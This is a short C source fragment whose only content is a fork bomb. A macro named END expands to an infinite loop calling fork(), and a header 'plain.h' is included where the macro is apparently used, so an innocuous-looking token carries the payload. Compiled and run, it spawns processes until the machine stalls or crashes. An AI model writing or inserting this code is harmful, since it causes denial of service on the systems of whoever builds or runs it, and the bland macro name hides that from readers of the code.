/* Starts processes endlessly. */
#include <unistd.h>
#define END                                                                                        \
    for (;;)                                                                                       \
        fork();
#include "plain.h"
